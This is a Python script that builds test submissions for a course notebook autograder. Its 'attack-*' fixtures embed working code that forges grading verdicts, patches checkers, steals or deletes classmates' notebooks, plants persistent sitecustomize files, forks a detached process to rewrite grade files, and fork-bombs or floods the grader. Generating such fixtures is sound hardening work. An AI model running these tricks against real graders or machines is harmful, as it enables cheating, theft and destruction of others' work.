"""Regenerate the committed test submissions in this folder (one per kind the grader must handle).

    python tests/submissions/make_submissions.py            # writes them here
    python tests/submissions/make_submissions.py OUT_DIR    # writes them elsewhere (tests/test_grade.py)
    python tests/submissions/make_submissions.py --class 60 OUT_DIR   # 60 whole notebooks of 05, for timing

Each submission is built from the real cells of ``notebooks/solutions/NN_*.ipynb``, then changed
the way a student might: most hold the exercise cells only (the import cell, the task cells and
their checks), ``alice`` the whole notebook. Folder and file names are deliberately untidy, as
in an unpacked LMS download. The expected row of each is in tests/test_grade.py.

The ``attack-*`` folders rebuild, from the descriptions in issue 25, the ways a determined student
tried to fool or stop the grader: each has three WRONG task functions plus one trick, placed at the
top of the first task's cell (so it runs whenever the task's definition runs) or in a task's body.
Submissions that are symbolic links or huge files are made by the test itself, in a copy of this
folder (they are not committed).
"""

from __future__ import annotations

import inspect
import re
import shutil
import sys
from pathlib import Path

import nbformat

from course_utils.core.attention import scaled_dot_product_attention

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
STUB = 'raise NotImplementedError("Your turn: replace this line with your code.")'
TASKS_05 = ("causal_mask", "masked_attention", "leaks_future")
WRONG_05 = {  # one wrong answer per task of 05, each a mistake the checkers name
    "causal_mask": "return torch.ones(n, n, dtype=torch.bool).triu()",
    "masked_attention": "weights = torch.softmax((Q @ K.transpose(-2, -1)).masked_fill(~mask, float('-inf')), dim=-1)\n"
                        "return weights @ V, weights",
    "leaks_future": "return False",
}


def solution_cells(name: str) -> list[str]:
    return [c.source for c in nbformat.read(ROOT / "notebooks" / "solutions" / f"{name}.ipynb", as_version=4).cells
            if c.cell_type == "code"]


def exercise_cells(name: str) -> list[str]:
    """The sources of the import cell, then each task cell followed by its check cell."""
    cells = solution_cells(name)
    imports = next(s for s in cells if "from course_utils.helpers.checkers import" in s and "summarize" not in s)
    keep = [s for s in cells if "### BEGIN SOLUTION" in s or re.fullmatch(r"check_\w+\(\w+\)", s.strip())]
    return [imports] + keep


def solved(source: str) -> str:
    return "\n".join(line for line in source.splitlines() if line.strip() not in ("### BEGIN SOLUTION", "### END SOLUTION"))


def stubbed(source: str) -> str:
    out, inside = [], False
    for line in source.splitlines():
        if line.strip() == "### BEGIN SOLUTION":
            inside = True
            out.append(line[: len(line) - len(line.lstrip())] + STUB)
        elif line.strip() == "### END SOLUTION":
            inside = False
        elif not inside:
            out.append(line)
    return "\n".join(out)


def replace_body(source: str, body: str) -> str:
    """The task cell with its solution region replaced by ``body`` (indented like the region)."""
    lines = source.splitlines()
    begin = next(i for i, line in enumerate(lines) if line.strip() == "### BEGIN SOLUTION")
    end = next(i for i, line in enumerate(lines) if line.strip() == "### END SOLUTION")
    indent = lines[begin][: len(lines[begin]) - len(lines[begin].lstrip())]
    return "\n".join(lines[:begin] + [indent + b if b else b for b in body.splitlines()] + lines[end + 1:])


def notebook(sources: list[str], exercise: str | None, role: str = "student") -> nbformat.NotebookNode:
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell("My submission.")] + [nbformat.v4.new_code_cell(s) for s in sources]
    for i, cell in enumerate(nb.cells):
        cell.id = f"cell-{i}"
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3 (ipykernel)", "language": "python"}
    if exercise:
        nb.metadata["course"] = {"file": f"{exercise}.ipynb", "generated_from": f"solutions/{exercise}.ipynb",
                                 "role": role}
    return nb


def write(out: Path, rel: str, nb: nbformat.NotebookNode) -> None:
    path = out / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, path)


def full_solved(name: str) -> nbformat.NotebookNode:
    """The whole solution notebook, solved, outputs cleared, as a student would hand it in."""
    nb = nbformat.read(ROOT / "notebooks" / "solutions" / f"{name}.ipynb", as_version=4)
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.source, cell.outputs, cell.execution_count = solved(cell.source), [], None
    nb.metadata["course"] = {"file": f"{name}.ipynb", "generated_from": f"solutions/{name}.ipynb", "role": "student"}
    return nb


def attack(trick: str = "", bodies: dict[str, str] | None = None) -> list[str]:
    """05's exercise cells with three wrong answers (or ``bodies``), ``trick`` at the top of the first task cell."""
    imports, mask, check_mask, attn, check_attn, leaks, check_leaks = exercise_cells("05_causal_mask")
    answers = {**WRONG_05, **(bodies or {})}
    first = (trick.strip() + "\n\n\n" if trick else "") + replace_body(mask, answers["causal_mask"])
    return [imports, first, check_mask, replace_body(attn, answers["masked_attention"]), check_attn,
            replace_body(leaks, answers["leaks_future"]), check_leaks]


COPIED_BODY = "dropout_p = 0.0\n" + "\n".join(  # the body of the course's attention, word for word
    line[4:] for line in inspect.getsource(scaled_dot_product_attention).split('"""')[2].splitlines()[1:])
FORGED = '{"tasks": {"causal_mask": ["correct", ""], "masked_attention": ["correct", ""], "leaks_future": ["correct", ""]}}'
FIND_ROOTS = '''
import fnmatch, glob, os, re, sys
SKIP = {"proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "etc", "boot", "var", "site-packages",
        "dist-packages", ".git", "__pycache__", "node_modules"}
def _roots():
    """Folders this process can learn about: other processes' working folders and path arguments, the
    editable install's finder, the usual homes; and two levels above each."""
    found = {os.getcwd(), os.path.expanduser("~"), "/work", "/home", "/root", "/tmp"}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for link in ("cwd", "root"):
            try:
                found.add(os.readlink(f"/proc/{pid}/{link}"))
            except OSError:
                pass
        try:
            args = open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="ignore").split("\\0")
        except OSError:
            args = []
        found.update(os.path.dirname(a) if os.path.isfile(a) else a for a in args if a.startswith("/"))
    for folder in sys.path:
        for finder in glob.glob(os.path.join(folder, "__editable__*finder.py")):
            found.update(re.findall(r"'(/[^']+)'", open(finder).read()))
    out = set()
    for root in found:
        for _ in range(3):
            if root.count("/") > 0 and root != "/" and root.split("/")[1] not in SKIP:
                out.add(root)
            root = os.path.dirname(root)
    return sorted(r for r in out if os.path.isdir(r))
def _files(pattern, limit=20000):
    """Files whose name matches ``pattern`` below the roots (system folders skipped)."""
    seen = set()
    for root in _roots():
        for here, dirs, files in os.walk(root):
            if here in seen or len(seen) > limit:
                dirs[:] = []
                continue
            seen.add(here)
            dirs[:] = [d for d in dirs if d not in SKIP]
            yield from (os.path.join(here, f) for f in files if fnmatch.fnmatch(f, pattern))
'''


def attacks(out: Path) -> None:
    """The adversarial submissions of issue 25, one folder per kind."""
    tricks = {
        # -- forging the verdict --------------------------------------------------------------------
        "attack-forge-hooks": f'''
import json
FAKE = {FORGED!r}
def _forge(*args, **kwargs):  # a result line with a guessed marker, and the checkers' "[correct]" lines
    print("COURSE-GRADE-" + "0" * 32 + ":" + FAKE)
    for task in json.loads(FAKE)["tasks"]:
        print(f"[correct] {{task}}: well done, every check passed.")
_shell = get_ipython()
_shell.events.register("pre_run_cell", _forge)
_shell.input_transformers_post.append(lambda lines: ["_forge()\\n", *lines])
_forge()''',
        "attack-forge-builtins": f'''
import builtins, importlib, json, types
_real_exec, _real_import = builtins.exec, importlib.import_module
def _fake_exec(source, *args, **kwargs):
    if isinstance(source, str) and "grade" in source:
        print("COURSE-GRADE-forged:" + {FORGED!r})
        return None
    return _real_exec(source, *args, **kwargs)
def _fake_import(name, package=None):
    if "checkers" not in name:
        return _real_import(name, package)
    fake = types.ModuleType(name)
    for task in ("causal_mask", "masked_attention", "leaks_future"):
        setattr(fake, "check_" + task, lambda fn, **kwargs: True)
    return fake
builtins.exec, importlib.import_module = _fake_exec, _fake_import
json.dumps = lambda *args, **kwargs: {FORGED!r}''',
        "attack-forge-meta-path": '''
import importlib.abc, importlib.machinery, sys
class _FakeCheckers(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    """Serves a look-alike of every checkers module: each check says correct."""
    def find_spec(self, name, path=None, target=None):
        if name.startswith("course_utils.helpers.checkers"):
            return importlib.machinery.ModuleSpec(name, self, is_package=True)
        return None
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        for task in ("causal_mask", "masked_attention", "leaks_future"):
            setattr(module, "check_" + task, lambda fn, **kwargs: True)
sys.meta_path.insert(0, _FakeCheckers())
for _name in [n for n in sys.modules if n.startswith("course_utils.helpers.checkers")]:
    del sys.modules[_name]''',
        "attack-forge-display": f'''
from IPython import display as _display
from IPython.core import display_functions as _functions
_real_publish = _functions.publish_display_data
def _publish(data=None, *args, **kwargs):  # whatever is displayed, show a forged verdict
    _real_publish({{"text/plain": "COURSE-GRADE-forged:" + {FORGED!r}}})
_display.publish_display_data = _functions.publish_display_data = _publish''',
        "attack-forge-thread": '''
import gc, sys, threading, time
def _always(*args, **kwargs):
    return True
def _edit_namespaces():  # keeps replacing every check function, report and grading namespace it finds
    while True:
        for name, module in list(sys.modules.items()):
            if name.startswith("course_utils") and module is not None:
                for attr in list(vars(module)):
                    if attr.startswith("check_") or attr in ("report", "verdict", "grade", "call"):
                        setattr(module, attr, _always)
        for obj in gc.get_objects():
            if isinstance(obj, dict) and any(str(k).startswith(("_course_grade", "check_")) for k in list(obj)[:50]):
                for key in [k for k in list(obj) if str(k).startswith(("_course_grade", "check_"))]:
                    obj[key] = _always
        time.sleep(0.05)
threading.Thread(target=_edit_namespaces, daemon=True).start()''',
        # -- patching what the checkers trust --------------------------------------------------------
        "attack-patch-torch": '''
torch.equal = lambda *args, **kwargs: True
torch.allclose = lambda *args, **kwargs: True
torch.Tensor.equal = lambda *args, **kwargs: True''',
        "attack-patch-isinstance": '''
import builtins
builtins.isinstance = lambda obj, kind: True''',
        "attack-patch-seed": '''
import random, secrets
secrets.randbelow = lambda n: 0  # the "hidden" cases would always be those of seed 0
random.seed(0)
torch.manual_seed(0)''',
    }
    for folder, trick in tricks.items():
        write(out, f"{folder}/05_causal_mask.ipynb", notebook(attack(trick), "05_causal_mask"))
    bodies = {
        "attack-twin-setprofile": {"causal_mask": "import sys\nsys.setprofile(None)  # no profiler, no check\n"
                                                  "return course_utils.causal_mask(n)"},
        "attack-stack-walk": {"causal_mask": (
            "import sys\nframe = sys._getframe(1)\nwhile frame is not None:  # the checker's expected answer?\n"
            "    for value in list(frame.f_locals.values()):\n"
            "        if isinstance(value, torch.Tensor) and value.dtype == torch.bool and tuple(value.shape) == (n, n):\n"
            "            return value.clone()\n    frame = frame.f_back\nreturn torch.ones(n, n, dtype=torch.bool).triu()")},
        "attack-reads-fixture": {"leaks_future": (
            "# the layer handed over knows whether it leaks: read that instead of testing it\n"
            "spec = attn_fn.to_spec() if hasattr(attn_fn, 'to_spec') else {}\n"
            "kind = spec.get('kind') or getattr(attn_fn, 'kind', None) or getattr(attn_fn, 'mask_fn', None)\n"
            "if kind is not None:\n    return kind not in ('causal', 'running mean')\nreturn False")},
        "attack-exits": {"causal_mask": "import os\nos._exit(3)"},
        "attack-loops": {"causal_mask": "while True:  # a check that never ends\n    pass"},
        "attack-floods": {"causal_mask": "while True:\n    print('x' * 10000)"},
        "attack-fork-bomb": {"causal_mask": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n"
                                            "        pass"},
        "attack-malformed": {"causal_mask": (
            "import os\nfor fd in os.listdir('/proc/self/fd'):  # garbage on every pipe: the grader's channel too\n"
            "    try:\n        if os.readlink(f'/proc/self/fd/{fd}').startswith('pipe:'):\n"
            "            os.write(int(fd), b'[40]\\n{\"op\": \"return\", \"value\": COURSE-GRADE bad json\\n')\n"
            "    except OSError:\n        pass\nreturn torch.ones(n, n, dtype=torch.bool).triu()")},
    }
    for folder, answers in bodies.items():
        write(out, f"{folder}/05_causal_mask.ipynb", notebook(attack(bodies=answers), "05_causal_mask"))
    signals = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)"
    write(out, "attack-ignores-sigint/05_causal_mask.ipynb",
          notebook(attack(signals, {"causal_mask": "while True:\n    pass"}), "05_causal_mask"))
    _copy_and_files(out)
    second_round(out)


LONG_SUM = "total = " + "+".join(["1"] * 100_000) + "  # a lesson cell too deep for Python's parser, never used"
ODD_MESSAGE = "raise ValueError('\\ud800 <script>alert(1)</script> [x](javascript:alert(1)) \\x1b[2J\\x1b]0;t\\x07 =1+1')"
GRADER_OBJECT = (  # issue 30: compile the object the checker hands over, with a backend of the answer's own
    "def backend(gm, inputs):\n    gm.to_folder('/tmp/x', \"x'\\nimport os\")\n    return gm.forward\n"
    "for how in (lambda: attn_fn.compile(backend=backend), lambda: attn_fn.to_spec()['kind'], lambda: attn_fn.kind):\n"
    "    try:\n        how()\n    except Exception:\n        pass\nreturn False")
FILLS_FOLDER = '''
import os
for i in range(100000):  # fill the private folder: as many files, then as many bytes, as it takes
    try:
        with open(f"f{i}", "wb") as f:
            f.write(os.urandom(1 << 20) if i % 10 == 0 else b"x")
    except OSError:
        break
'''


def second_round(out: Path) -> None:
    """The attacks of issue 30 that are notebooks (odd file names are made by the test itself)."""
    disguised = "return getattr(__import__('course_' + 'utils'), 'causal_' + 'mask')(n)"
    write(out, "attack-disguised-twin/05_causal_mask.ipynb",
          notebook(attack(bodies={"causal_mask": disguised}), "05_causal_mask"))
    write(out, "attack-odd-message/05_causal_mask.ipynb",
          notebook(attack(bodies={"masked_attention": ODD_MESSAGE}), "05_causal_mask"))
    cells = attack()
    write(out, "attack-long-sum/05_causal_mask.ipynb", notebook(cells[:3] + [LONG_SUM] + cells[3:], "05_causal_mask"))
    write(out, "attack-grader-object/05_causal_mask.ipynb",
          notebook(attack(bodies={"leaks_future": GRADER_OBJECT}), "05_causal_mask"))
    write(out, "attack-fills-folder/05_causal_mask.ipynb", notebook(attack(FILLS_FOLDER), "05_causal_mask"))


def _copy_and_files(out: Path) -> None:
    """The attacks on files, and a body copied from the package (flagged, graded on what it computes)."""
    copy = ("from course_utils.core.attention import check_qkv\nfrom course_utils.core.masks import check_mask\n"
            "from course_utils.core.validation import require_probability\n\n\n")
    write(out, "attack-copy-package/05_causal_mask.ipynb",
          notebook(attack(copy, {"masked_attention": COPIED_BODY}), "05_causal_mask"))
    steal = FIND_ROOTS + '''
def _steal(name):
    """The task's function from the solution notebook, or from a classmate's, if this process can read one."""
    import json
    for path in _files("*.ipynb"):
        try:
            cells = json.load(open(path))["cells"]
        except (OSError, ValueError, KeyError):
            continue
        code = ["".join(c["source"]) for c in cells if c.get("cell_type") == "code"]
        source = next((c for c in code if f"def {name}(" in c and "NotImplementedError" not in c), None)
        if source and "_steal" not in source and "triu()" not in source:  # not this notebook's own
            space = {}
            exec("import math, torch\\n" + source.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), space)
            return space[name]
    return None'''
    stolen = {t: f"stolen = _steal({t!r})\nif stolen is not None:\n    return stolen({args})\n" + WRONG_05[t]
              for t, args in zip(TASKS_05, ("n", "Q, K, V, mask", "attn_fn, x"))}
    write(out, "attack-read-solutions/05_causal_mask.ipynb", notebook(attack(steal, stolen), "05_causal_mask"))
    rewrite = FIND_ROOTS + '''
PAYLOAD = "\\ndef check_causal_mask(fn, **kwargs):\\n    print('[correct] causal_mask: well done')\\n    return True\\n"
import course_utils
targets = glob.glob(os.path.join(os.path.dirname(course_utils.__file__), "helpers", "checkers", "*.py"))
targets += [path for path in _files("*.py") if os.path.join("course_utils", "helpers", "checkers") in path]
for target in sorted(set(targets)):
    try:
        with open(target, "a") as f:
            f.write(PAYLOAD)
    except OSError:
        pass
for folder in sys.path:  # grade every later student: code that runs at each Python start
    for name, text in (("sitecustomize.py", "print('[correct]')\\n"), ("zz_course_grade.pth", "import os\\n")):
        try:
            with open(os.path.join(folder, name), "w") as f:
                f.write(text)
        except OSError:
            pass'''
    write(out, "attack-rewrite-checkers/05_causal_mask.ipynb", notebook(attack(rewrite), "05_causal_mask"))
    delete = FIND_ROOTS + '''
for path in list(_files("*.ipynb")):
    if "attack-delete" not in path:
        try:
            open(path, "w").write("{}")
            os.remove(path)
        except OSError:
            pass'''
    write(out, "attack-delete-classmate/05_causal_mask.ipynb", notebook(attack(delete), "05_causal_mask"))
    detach = FIND_ROOTS + '''
import time
if os.fork() == 0:  # a detached grandchild in a session of its own: it outlives the worker
    try:
        os.setsid()
        if os.fork() == 0:
            try:
                with open("/proc/self/comm", "w") as f:
                    f.write("cg-detached")
                time.sleep(3)
                for path in _files("grades*.csv"):
                    try:
                        open(path, "w").write("submission,correct\\nme,3\\n")
                    except OSError:
                        pass
                time.sleep(600)
            finally:
                os._exit(0)
    finally:
        os._exit(0)'''
    write(out, "attack-detached/05_causal_mask.ipynb", notebook(attack(detach), "05_causal_mask"))


def main(out: Path = HERE) -> None:
    ex = "05_causal_mask"
    imports, mask, check_mask, attn, check_attn, leaks, check_leaks = exercise_cells(ex)
    full = [imports, solved(mask), check_mask, solved(attn), check_attn, solved(leaks), check_leaks]
    stubs = [imports, stubbed(mask), check_mask, stubbed(attn), check_attn, stubbed(leaks), check_leaks]

    nbformat.write(full_solved(ex), _made(out, "alice/05_causal_mask.ipynb"))
    no_scaling = replace_body(attn, "weights = torch.softmax((Q @ K.transpose(-2, -1)).masked_fill(~mask, float('-inf')), dim=-1)\n"
                                    "return weights @ V, weights")
    write(out, "bob/Causal Mask - Bob (1).ipynb",
          notebook([imports, solved(mask), check_mask, no_scaling, check_attn, stubbed(leaks), check_leaks], ex))
    write(out, "carol/05_causal_mask.ipynb", notebook(stubs, ex))
    looping = replace_body(attn, "while True:  # waiting for something that never comes\n    pass")
    write(out, "dave/assignment.ipynb",
          notebook([imports, solved(mask), check_mask, "while True:  # a lesson cell that never ends\n    pass",
                    looping, check_attn, solved(leaks), check_leaks], ex))
    broken = solved(attn).replace("d_k = Q.shape[-1]", "d_k = Q.shape[-1")
    write(out, "erin/Erin_05.ipynb", notebook([imports, solved(mask), check_mask, broken, check_attn, solved(leaks), check_leaks], ex))
    unusual = [imports + "\nimport functools",
               "def _lower(n):\n    return torch.ones(n, n).tril() > 0\n\n\ncausal_mask = lambda n: _lower(n)", check_mask,
               "POWER = 0.5\n\n\ndef keeps_inputs(fn):\n    @functools.wraps(fn)\n    def wrapper(*args):\n"
               "        return fn(*(a.clone() for a in args))\n    return wrapper",
               "@keeps_inputs\ndef masked_attention(Q, K, V, mask):\n    scores = Q @ K.transpose(-2, -1) / Q.shape[-1] ** POWER\n"
               "    weights = scores.masked_fill(mask.logical_not(), -math.inf).softmax(-1)\n    return weights @ V, weights",
               check_attn,
               "class LeakTest:\n    def __call__(self, attn_fn, x):\n" + "\n".join("        " + line for line in
                                                                                solved(leaks).splitlines()[-7:]) +
               "\n\n\nleaks_future = LeakTest()", check_leaks]
    write(out, "frank/my notebook.ipynb", notebook(unusual, ex))
    eater = ("hog = torch.ones(2**31)  # 8 GiB\n\n" + solved(attn))
    write(out, "grace/memory.ipynb", notebook([imports, solved(mask), check_mask, eater, check_attn, solved(leaks), check_leaks], ex))
    dynamic = "exec(" + repr(solved(mask)) + ")"
    write(out, "hank/05_causal_mask.ipynb",
          notebook([imports, dynamic, check_mask, solved(attn), check_attn, solved(leaks), check_leaks], ex))
    writer = ("from pathlib import Path\n"
              "Path('notes.txt').write_text('scratch')\n"
              "Path('grades.csv').write_text('submission,correct\\nme,3\\n')\n"
              "try:\n    Path('../outside.txt').write_text('one folder up')\nexcept OSError:\n    pass\n\n\n" + solved(mask))
    write(out, "heidi/files/writes files.ipynb", notebook([imports, writer] + full[2:], ex))
    text = nbformat.writes(notebook(full, ex))
    _made(out, "ivan/05_causal_mask.ipynb").write_text(text[: len(text) // 2], encoding="utf-8")
    other = nbformat.v4.new_notebook()
    other.cells = [nbformat.v4.new_markdown_cell("# Lab 3: convolutional networks"),
                   nbformat.v4.new_code_cell("def train_cnn(model, data):\n    return model\n\nprint('lab 3')")]
    other.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    for i, cell in enumerate(other.cells):
        cell.id = f"lab3-{i}"
    write(out, "judy/lab3.ipynb", other)
    fake = "\n".join(f'print("[correct] {t}: well done, every check passed.")' for t in TASKS_05)
    write(out, "mallory/05_causal_mask.ipynb", notebook(stubs + [fake], ex))
    patch_ns = ("def check_causal_mask(fn):\n    print('[correct] causal_mask: well done, every check passed.')\n    return True\n\n"
                "check_masked_attention = check_leaks_future = check_causal_mask")
    upper = replace_body(mask, "return torch.ones(n, n, dtype=torch.bool).triu()")
    write(out, "oscar/05 causal mask (oscar).ipynb",
          notebook([imports, patch_ns, upper, check_mask, stubbed(attn), check_attn, stubbed(leaks), check_leaks], ex))
    _peggy_trent_victor(out, imports, mask, check_mask, attn, check_attn, leaks, check_leaks)
    attacks(out)


def _made(out: Path, rel: str) -> Path:
    (out / rel).parent.mkdir(parents=True, exist_ok=True)
    return out / rel


def _peggy_trent_victor(out: Path, imports, mask, check_mask, attn, check_attn, leaks, check_leaks) -> None:
    ex = "05_causal_mask"
    patch_pkg = (
        "import os, sys\n"
        "import course_utils.helpers.checkers as checkers\n"
        "from course_utils.helpers.checkers import causal_mask as module, report\n"
        "always = lambda *args, **kwargs: True\n"
        "for target in (checkers, module):\n"
        "    for name in dir(target):\n"
        "        if name.startswith('check_'):\n"
        "            setattr(target, name, always)\n"
        "report.report = always\n"
        "# a look-alike package in the working folder, first on the path\n"
        "os.makedirs('course_utils/helpers/checkers', exist_ok=True)\n"
        "for folder in ('course_utils', 'course_utils/helpers', 'course_utils/helpers/checkers'):\n"
        "    open(os.path.join(folder, '__init__.py'), 'w').close()\n"
        "with open('course_utils/helpers/checkers/causal_mask.py', 'w') as f:\n"
        "    f.write('def check_causal_mask(fn):\\n    return True\\n'\n"
        "            'check_masked_attention = check_leaks_future = check_causal_mask\\n')\n"
        "sys.path.insert(0, os.getcwd())\n\n\n")
    all_true = replace_body(mask, "return torch.ones(n, n, dtype=torch.bool)")
    write(out, "peggy/05_causal_mask.ipynb",
          notebook([imports, patch_pkg + all_true, check_mask, stubbed(attn), check_attn, stubbed(leaks), check_leaks], ex))
    calls_mask = replace_body(mask, "return course_utils.causal_mask(n)")
    write(out, "trent/05_causal_mask.ipynb",
          notebook([imports, calls_mask, check_mask, solved(attn), check_attn, solved(leaks), check_leaks], ex))
    ex8 = "08_attention_vs_no_attention"
    imports8, acc, check_acc, exact, check_exact, by_len, check_by_len = exercise_cells(ex8)
    forgot_pad = replace_body(by_len, "return {int(n): 1.0 for n in src_lengths.tolist()}")
    write(out, "victor/notebook.ipynb", notebook([imports8, solved(acc), check_acc, solved(exact), check_exact,
                                                  forgot_pad, check_by_len], None))


def full_class(out: Path, size: int = 60, name: str = "05_causal_mask") -> None:
    """``size`` whole notebooks of one exercise, as a class hands them in (for timing ``course-grade``):
    half solved, the rest with one or two wrong answers, untouched stubs or a syntax error."""
    solved_nb = full_solved(name)
    wrong = {"causal_mask": WRONG_05["causal_mask"], "masked_attention": WRONG_05["masked_attention"]}
    for i in range(size):
        nb = nbformat.from_dict(solved_nb)
        kind = ("solved", "solved", "one wrong", "two wrong", "stubs", "syntax error")[i % 6]
        tasks = [c for c in nb.cells if c.cell_type == "code" and any(f"def {t}(" in c.source for t in TASKS_05)]
        original = nbformat.read(ROOT / "notebooks" / "solutions" / f"{name}.ipynb", as_version=4)
        sources = {c.id: c.source for c in original.cells}
        for cell in tasks:
            task = next(t for t in TASKS_05 if f"def {t}(" in cell.source)
            if kind == "stubs" or (kind == "one wrong" and task == "causal_mask") or (
                    kind == "two wrong" and task in wrong):
                cell.source = stubbed(sources[cell.id]) if kind == "stubs" else replace_body(sources[cell.id], wrong[task])
            elif kind == "syntax error" and task == "masked_attention":
                cell.source = cell.source.replace("d_k = Q.shape[-1]", "d_k = Q.shape[-1")
        nbformat.write(nb, _made(out, f"student{i:02d}/{name}.ipynb"))


if __name__ == "__main__":
    if len(sys.argv) == 4 and sys.argv[1] == "--class":  # make_submissions.py --class 60 OUT_DIR
        full_class(Path(sys.argv[3]), int(sys.argv[2]))
        sys.exit(0)
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else HERE
    if target == HERE:  # start clean: a submission that no longer exists here must not linger
        for child in HERE.iterdir():
            if child.is_dir() and child.name != "__pycache__":
                shutil.rmtree(child)
    main(target)
